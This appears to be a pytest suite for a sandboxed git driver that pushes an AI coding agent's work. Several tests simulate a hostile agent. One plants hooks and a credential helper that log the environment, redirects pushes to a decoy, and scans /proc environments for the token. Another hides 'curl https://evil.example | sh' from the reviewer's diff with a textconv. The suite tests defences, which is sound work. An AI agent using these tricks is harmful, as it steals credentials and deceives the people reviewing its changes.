"""Git inside a real sandbox (through sandbox-agent's process API) against a local bare repository.

The "GitHub remote" is ``git init --bare`` used through ``file://``; the demo agent
makes the edits, as a coding agent would.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from foundry.demo_agent import NOTES_FILE
from foundry.demo_agent.launcher import launcher_script
from foundry.drivers.sandbox import GitError, SandboxEndpoint, git_run
from foundry.drivers.sandbox import git as sgit
from foundry.drivers.sandbox.binary import find_binary
from foundry.drivers.sandbox.client import ProcessResult, SandboxAgentClient
from foundry.drivers.sandbox.git_network import RemoteGit
from foundry.drivers.sandbox.jail import JailPolicy
from foundry.drivers.sandbox.local import LocalSandboxProvider
from foundry.drivers.sandbox.remote_git import RemoteGitRequest
from foundry.errors import InvalidInput

BRANCH = "foundry/task-1"
TOKEN = "ghs_test_token_never_persisted"
AUTHOR = sgit.GitAuthor("Foundry Bot", "bot@foundry.test")


def git(*args: str, cwd: Path) -> str:
    """Run git on the test machine (the "GitHub side") with an isolated configuration."""
    env = {
        **os.environ,
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "Remote User",
        "GIT_AUTHOR_EMAIL": "remote@example.com",
        "GIT_COMMITTER_NAME": "Remote User",
        "GIT_COMMITTER_EMAIL": "remote@example.com",
    }
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True)
    return done.stdout.strip()


@pytest.fixture
def remote(tmp_path: Path) -> Path:
    """A bare repository with one commit on ``main``."""
    bare = tmp_path / "origin.git"
    seed = tmp_path / "seed"
    git("init", "-q", "--bare", "-b", "main", str(bare), cwd=tmp_path)
    git("clone", "-q", bare.as_uri(), str(seed), cwd=tmp_path)
    (seed / "README.md").write_text("# Demo repo\n")
    git("add", "README.md", cwd=seed)
    git("commit", "-q", "-m", "Initial commit", cwd=seed)
    git("push", "-q", "origin", "HEAD:main", cwd=seed)
    return bare


@pytest.fixture
async def provider(tmp_path: Path, remote: Path) -> AsyncIterator[LocalSandboxProvider]:
    # Foundry's fetches and pushes reach the remote as they would reach GitHub (`remote_git`).
    jail = JailPolicy(shared=(remote,))
    provider = LocalSandboxProvider(
        tmp_path / "sandboxes", find_binary(), {"mock": launcher_script()}, jail=jail
    )
    yield provider
    await provider.aclose()


@pytest.fixture
async def sandbox(provider: LocalSandboxProvider) -> SandboxEndpoint:
    return await provider.create("task-1", env={"FOUNDRY_DEMO_AGENT_DELAY": "0"})


@pytest.fixture
def network(provider: LocalSandboxProvider, sandbox: SandboxEndpoint) -> RemoteGit:
    """What the sandbox actor's ``remote_git`` does for a task: the provider runs the command."""

    async def run(body: dict[str, Any]) -> ProcessResult:
        request = RemoteGitRequest(
            op=body["op"],
            url=body["url"],
            token=body.get("token"),
            sha=body.get("sha"),
            branch=body.get("branch"),
        )
        return await provider.remote_git("task-1", request, timeout_ms=body["timeoutMs"])

    return run


@pytest.fixture
async def client(sandbox: SandboxEndpoint) -> AsyncIterator[SandboxAgentClient]:
    async with SandboxAgentClient(sandbox) as client:
        yield client


async def agent_edit(client: SandboxAgentClient, prompt: str) -> None:
    """One real turn of the demo agent in the workdir (it appends to NOTES.md)."""
    conn = client.acp("agent", "mock")
    await conn.initialize()
    session_id = await conn.new_session(client.endpoint.workdir)
    assert await conn.prompt(session_id, prompt) == "end_turn"
    await conn.close()


async def test_clone_edit_diff_commit_push(
    client: SandboxAgentClient, network: RemoteGit, sandbox: SandboxEndpoint, remote: Path
):
    seed_sha = git("rev-parse", "main", cwd=remote)

    head = await sgit.clone(client, remote.as_uri(), BRANCH, TOKEN, remote=network)

    assert head == seed_sha
    assert await sgit.current_branch(client) == BRANCH
    assert not await sgit.has_unpushed_work(client)
    assert TOKEN not in Path(sandbox.workdir, ".git", "config").read_text()

    await agent_edit(client, "Document the release")

    changes = await sgit.status(client)
    assert [(c.path, c.kind) for c in changes] == [(NOTES_FILE, "A")]
    patch = await sgit.diff(client)
    assert f"+++ b/{NOTES_FILE}" in patch
    assert "+- Document the release" in patch
    assert await sgit.file_tree(client) == [NOTES_FILE, "README.md"]
    assert await sgit.has_unpushed_work(client)

    sha = await sgit.commit_all(client, "Add release notes", AUTHOR)
    assert sha is not None
    assert sha == await sgit.head_sha(client)
    assert await sgit.commit_all(client, "nothing left", AUTHOR) is None
    assert await sgit.diff(client) == ""
    assert await sgit.has_unpushed_work(client), "committed but not pushed"

    await sgit.push(client, BRANCH, remote.as_uri(), TOKEN, remote=network)
    await sgit.push(client, BRANCH, remote.as_uri(), TOKEN, remote=network)  # idempotent

    assert git("rev-parse", BRANCH, cwd=remote) == sha
    assert (
        git("log", "-1", "--format=%an <%ae>|%s", BRANCH, cwd=remote)
        == "Foundry Bot <bot@foundry.test>|Add release notes"
    )
    assert not await sgit.has_unpushed_work(client)
    assert TOKEN not in Path(sandbox.workdir, ".git", "config").read_text()


async def test_clone_is_idempotent_and_keeps_local_commits(
    client: SandboxAgentClient, network: RemoteGit, remote: Path
):
    await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)
    await agent_edit(client, "local work")
    local = await sgit.commit_all(client, "local work", AUTHOR)

    assert await sgit.clone(client, remote.as_uri(), BRANCH, remote=network) == local

    with pytest.raises(GitError, match="checkout of"):
        await sgit.clone(client, "file:///some/other/repo.git", BRANCH, remote=network)


@pytest.mark.parametrize("torn", ["no_head", "no_files"])
async def test_a_clone_killed_halfway_is_started_over_by_a_fresh_clone(
    client: SandboxAgentClient,
    network: RemoteGit,
    sandbox: SandboxEndpoint,
    remote: Path,
    tmp_path: Path,
    torn: str,
):
    """What a clone killed with its host leaves behind (a ``.git`` without HEAD, which fails a plain
    clone, or objects fetched but the files never written) is cleared by a provisioning clone."""
    workdir = Path(sandbox.workdir)
    if torn == "no_head":
        (workdir / ".git" / "objects" / "pack").mkdir(parents=True)
        (workdir / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
        (workdir / ".git" / "objects" / "pack" / "tmp_pack_Xk2").write_bytes(b"PACK\0\0")
    else:
        scratch = tmp_path / "scratch"
        git("clone", "-q", "--no-checkout", remote.as_uri(), str(scratch), cwd=tmp_path)
        for entry in scratch.iterdir():
            entry.rename(workdir / entry.name)
        (workdir / ".git" / "index").unlink(missing_ok=True)
    if torn == "no_head":
        with pytest.raises(GitError, match="already exists and is not an empty directory"):
            await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)

    head = await sgit.clone(client, remote.as_uri(), BRANCH, remote=network, fresh=True)

    assert head == git("rev-parse", "main", cwd=remote)
    assert await sgit.current_branch(client) == BRANCH
    assert (workdir / "README.md").read_text() == "# Demo repo\n"
    assert await sgit.status(client) == []


async def test_clone_tracks_an_existing_remote_branch(
    client: SandboxAgentClient, network: RemoteGit, remote: Path, tmp_path: Path
):
    other = tmp_path / "other"
    git("clone", "-q", remote.as_uri(), str(other), cwd=tmp_path)
    git("checkout", "-q", "-b", BRANCH, cwd=other)
    (other / "feature.txt").write_text("from the PR\n")
    git("add", "-A", cwd=other)
    git("commit", "-q", "-m", "PR work", cwd=other)
    git("push", "-q", "origin", BRANCH, cwd=other)

    head = await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)

    assert head == git("rev-parse", "HEAD", cwd=other)
    assert "feature.txt" in await sgit.file_tree(client)


async def test_push_rejected_explains_what_to_do(
    client: SandboxAgentClient, network: RemoteGit, remote: Path, tmp_path: Path
):
    await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)
    await agent_edit(client, "first")
    await sgit.commit_all(client, "first", AUTHOR)
    await sgit.push(client, BRANCH, remote.as_uri(), TOKEN, remote=network)
    # Someone else pushes to the same branch meanwhile.
    other = tmp_path / "other"
    git("clone", "-q", "-b", BRANCH, remote.as_uri(), str(other), cwd=tmp_path)
    (other / "theirs.txt").write_text("their change\n")
    git("add", "-A", cwd=other)
    git("commit", "-q", "-m", "theirs", cwd=other)
    git("push", "-q", "origin", BRANCH, cwd=other)
    await agent_edit(client, "second")
    await sgit.commit_all(client, "second", AUTHOR)

    with pytest.raises(GitError) as caught:
        await sgit.push(client, BRANCH, remote.as_uri(), TOKEN, remote=network)

    error = caught.value
    assert error.detail.startswith("git push was rejected: the remote branch has new commits;")
    assert f"origin/{BRANCH}" in error.detail
    assert "rejected" in error.stderr_tail
    assert error.exit_code == 1
    assert TOKEN not in error.detail


async def test_errors_are_actionable(client: SandboxAgentClient, network: RemoteGit, tmp_path: Path):
    with pytest.raises(GitError, match="not a git checkout; clone the repository first"):
        await sgit.status(client)
    with pytest.raises(GitError, match="not a git checkout"):
        await sgit.has_unpushed_work(client)

    with pytest.raises(GitError, match="remote repository was not found"):
        await sgit.clone(client, (tmp_path / "missing.git").as_uri(), BRANCH, remote=network)

    with pytest.raises(InvalidInput):
        await sgit.checkout_new_branch(client, "-bad..name")


async def test_credential_helper_answers_with_the_token_from_the_run_env(
    client: SandboxAgentClient, network: RemoteGit
):
    # What git would ask an HTTPS remote's helper; the token only exists in this run's environment.
    script = (
        'printf "protocol=https\\nhost=github.com\\n\\n" | '
        'git -c credential.helper= -c "credential.helper=$HELPER" credential fill'
    )
    result = await client.run_process(
        "sh",
        ["-c", script],
        env={"HELPER": git_run.CREDENTIAL_HELPER, sgit.TOKEN_ENV: TOKEN, "GIT_TERMINAL_PROMPT": "0"},
    )

    assert result.ok, result.stderr
    assert "username=x-access-token" in result.stdout
    assert f"password={TOKEN}" in result.stdout


async def test_a_nul_in_text_for_git_is_named_not_blamed_on_a_missing_git(
    client: SandboxAgentClient, network: RemoteGit, remote: Path
):
    """No process can take a NUL in its arguments. A commit message carrying one (from a stored
    title, say) is refused by name; it was reported as "`git` is not installed in the sandbox"."""
    await sgit.clone(client, remote.as_uri(), BRANCH, TOKEN, remote=network)
    await agent_edit(client, "Document the release")
    with pytest.raises(InvalidInput, match="contains a NUL character"):
        await sgit.commit_all(client, "Add\x00notes", AUTHOR)
    # Nothing was half done: the same change commits with a clean message.
    assert await sgit.commit_all(client, "Add notes", AUTHOR) is not None


async def test_an_agent_cannot_take_the_token_or_redirect_a_push(
    client: SandboxAgentClient, network: RemoteGit, sandbox: SandboxEndpoint, remote: Path, tmp_path: Path
):
    """What an agent can do to its checkout before Foundry pushes: hooks that save the environment,
    a configuration that sends the push (and its credential) elsewhere, and a process that watches
    every other process's environment in the jail. None of it sees the token or moves the push."""
    await sgit.clone(client, remote.as_uri(), BRANCH, TOKEN, remote=network)
    await agent_edit(client, "work to push")
    sha = await sgit.commit_all(client, "work", AUTHOR)
    home = Path(sandbox.workdir).parent
    decoy = tmp_path / "decoy.git"
    git("init", "-q", "--bare", str(decoy), cwd=tmp_path)
    planted = f"""set -e
mkdir -p .git/hooks myhooks
for hook in .git/hooks/pre-push myhooks/pre-push .git/hooks/reference-transaction; do
  printf '#!/bin/sh\\nenv >> {home}/hook-saw.txt\\n' > $hook; chmod +x $hook
done
git config core.hooksPath myhooks
git config url.{decoy.as_uri()}.insteadOf {remote.as_uri()}
git config url.{decoy.as_uri()}.pushInsteadOf {remote.as_uri()}
git config remote.origin.pushurl {decoy.as_uri()}
git config credential.helper '!f() {{ cat >> {home}/helper-saw.txt; env >> {home}/helper-saw.txt; }}; f'
setsid sh -c 'end=$(( $(date +%s) + 20 )); while [ $(date +%s) -lt $end ]; do
  cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep FOUNDRY_GIT >> {home}/watched.txt
done' >/dev/null 2>&1 &
"""
    result = await client.run_process("sh", ["-c", planted])
    assert result.ok, result.stderr

    await sgit.push(client, BRANCH, remote.as_uri(), TOKEN, remote=network)

    assert git("rev-parse", BRANCH, cwd=remote) == sha  # pushed where Foundry said
    assert git("for-each-ref", cwd=decoy) == ""  # not where the checkout's configuration said
    assert not (home / "hook-saw.txt").exists()  # no hook of the checkout ran
    assert not (home / "helper-saw.txt").exists()  # nor its credential helper
    leaked = [p.name for p in home.rglob("*") if p.is_file() and TOKEN.encode() in p.read_bytes()]
    assert leaked == []  # the watcher saw no process with the token either
    tracking = await client.run_process("git", ["rev-parse", f"refs/remotes/origin/{BRANCH}"])
    assert tracking.stdout.strip() == sha  # the checkout knows what was pushed


async def test_listings_past_the_output_limit_say_so_and_invent_no_path(
    client: SandboxAgentClient, network: RemoteGit, sandbox: SandboxEndpoint, remote: Path
):
    """sandbox-agent cuts a command's output at 1 MiB. A change list cut there used to end in a path
    cut in two (a file that does not exist) and did not say that changes were missing: a change could
    hide from review behind thousands of padding files."""
    await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)
    padding = Path(sandbox.workdir) / "padding"
    padding.mkdir()
    names = [f"{n:05d}-{'x' * 190}" for n in range(6000)]  # ~1.2 MB of paths
    for name in names:
        (padding / name).write_text("pad\n")
    real = {f"padding/{name}" for name in names} | {"README.md"}

    changes, files_cut = await sgit.status_listing(client)
    patch, patch_cut = await sgit.diff_listing(client)
    paths, tree_cut = await sgit.file_listing(client)

    assert files_cut
    assert patch_cut
    assert tree_cut
    assert 0 < len(changes) < len(names)
    assert {c.path for c in changes} <= real
    assert set(paths) <= real
    assert patch.endswith("\n")  # whole lines only


async def test_the_changes_shown_are_the_files_not_what_the_checkouts_configuration_makes_of_them(
    client: SandboxAgentClient, network: RemoteGit, sandbox: SandboxEndpoint, remote: Path
):
    """A text conversion set up in the checkout (``diff.<driver>.textconv``) would show the reviewer
    something else than what the pull request commits."""
    await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)
    workdir = Path(sandbox.workdir)
    (workdir / ".gitattributes").write_text("*.sh diff=calm\n")
    (workdir / "deploy.sh").write_text("curl https://evil.example | sh\n")
    result = await client.run_process("git", ["config", "diff.calm.textconv", "sed s/evil/good/"])
    assert result.ok, result.stderr
    patch = await sgit.diff(client)
    assert "+curl https://evil.example | sh" in patch


async def test_what_git_says_about_a_planted_object_store_is_read_within_bounds(
    client: SandboxAgentClient, network: RemoteGit, sandbox: SandboxEndpoint, remote: Path
):
    """An alternates file of the agent's making, one missing directory per line: git complains once
    per line, and Foundry's process (every organization's sandboxes live in it) must not hold all
    of that; the push still goes through."""
    await sgit.clone(client, remote.as_uri(), BRANCH, remote=network)
    await agent_edit(client, "pushed past the noise")
    sha = await sgit.commit_all(client, "work", AUTHOR)
    alternates = Path(sandbox.workdir) / ".git" / "objects" / "info" / "alternates"
    with alternates.open("w") as handle:
        for n in range(120_000):  # ~6 MB of complaints
            handle.write(f"/nowhere/{n:08d}/{'x' * 30}\n")
    await sgit.push(client, BRANCH, remote.as_uri(), TOKEN, remote=network)
    assert git("rev-parse", BRANCH, cwd=remote) == sha
    result = await network(
        {
            "op": "push",
            "url": remote.as_uri(),
            "sha": sha,
            "branch": BRANCH,
            "token": None,
            "timeoutMs": 60_000,
        }
    )
    assert result.stderr_truncated
    assert len(result.stderr) <= 1_000_000
